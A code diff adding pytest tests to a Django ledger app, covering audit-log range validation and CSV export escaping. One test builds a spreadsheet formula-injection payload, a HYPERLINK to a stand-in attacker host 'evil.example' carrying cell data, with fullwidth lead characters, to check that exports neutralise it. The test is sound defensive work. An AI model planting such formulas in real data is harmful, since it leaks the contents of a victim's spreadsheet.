@@ -1,9 +1,12 @@
 """Per-object history and the audit log (JSON pages and streamed CSV)."""
 
+import base64
 import csv
 import io
+import json
 
 import pytest
+from django.test import Client
 
 from ledger import services
 from ledger.models import Stamp
@@ -143,3 +146,69 @@ def test_history_streams_every_version_and_pages_on_request(world, api_auditor):
     for bad in ("0", "1001", "x", "-1", "1.5", "١٢", "9" * 30):
         assert api_auditor.get(path, {"limit": bad}).status_code == 400, bad
     assert api_auditor.get(path, {"before": "0"}).status_code == 400
+
+
+def _cursor(moment: str, model: str = "customer", history_id: int = 1) -> str:
+    raw = json.dumps([moment, model, history_id]).encode()
+    return base64.urlsafe_b64encode(raw).decode().rstrip("=")
+
+
+@pytest.mark.parametrize("fmt", ["json", "csv"])
+@pytest.mark.parametrize(
+    ("params", "field"),
+    [
+        ({"since": "9999-12-31T23:59:59.999999-01:00"}, "since"),  # year 10000 in UTC
+        ({"cursor": _cursor("2026-01-01T00:00:00+23:59")}, "cursor"),
+        ({"cursor": _cursor("2026-01-01T00:00:00-17:26")}, "cursor"),
+        ({"cursor": _cursor("9999-12-31T23:59:59-01:00")}, "cursor"),
+    ],
+)
+def test_audit_log_refuses_values_out_of_range_in_the_error_shape(
+    world, api_auditor, params, field, fmt
+):
+    response = api_auditor.get("audit-log/", {**params, "format": fmt})
+    assert response.status_code == 400
+    body = response.json()
+    assert body["code"] == "invalid" and field in body["fields"], body
+
+
+@pytest.mark.parametrize("fmt", ["json", "csv"])
+def test_audit_log_takes_the_last_day_python_holds(world, api_auditor, fmt):
+    # An instant (until is exclusive): 9999-12-31T00:00Z is one PostgreSQL and Python hold.
+    params = {"since": "9999-12-31", "until": "9999-12-31", "format": fmt}
+    response = api_auditor.get("audit-log/", params)
+    assert response.status_code == 200
+
+
+def _csv_rows(response) -> list[list[str]]:
+    assert response.status_code == 200
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+@pytest.mark.parametrize("lead", ["\uff1d", "\uff0b", "\uff0d", "\uff20", "="])
+def test_every_csv_export_neutralises_formulas_in_every_text_cell(
+    world, api_support, api_auditor, auditor, lead
+):
+    # Fullwidth = + - @ are folded to ASCII by spreadsheets that evaluate them; the request
+    # id comes from the client's X-Request-ID, which may start with "-".
+    reason = lead + 'HYPERLINK("http://evil.example/?"&A1,"open")'
+    response = api_support.post(
+        f"stamps/{world['stamp'].pk}/deduct/",
+        {"reason": reason},
+        headers={"X-Request-ID": "-A1:A9"},
+    )
+    assert response.status_code == 200
+    admin = Client()
+    admin.force_login(auditor)
+    exports = {
+        "staff API": _csv_rows(
+            api_auditor.get("audit-log/", {"format": "csv", "channel": "staff-api"})
+        ),
+        "admin": _csv_rows(admin.get("/admin/audit-log.csv", {"channel": "staff-api"})),
+    }
+    for name, rows in exports.items():
+        header, body = rows[0], rows[1:]
+        assert len(body) == 1, name
+        row = dict(zip(header, body[0], strict=True))
+        assert row["reason"] == "'" + reason, name
+        assert row["request_id"] == "'-A1:A9", name
